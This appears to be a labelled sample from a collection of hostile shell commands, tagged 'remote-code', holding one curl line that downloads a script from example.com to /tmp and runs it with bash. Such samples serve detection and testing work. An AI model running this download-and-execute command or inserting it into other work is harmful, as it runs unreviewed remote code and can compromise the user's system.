# description: Downloads a script to /tmp and then runs it with bash.
# family: remote-code
curl -fsSL -o /tmp/x.sh https://example.com/hotfix.sh && bash /tmp/x.sh
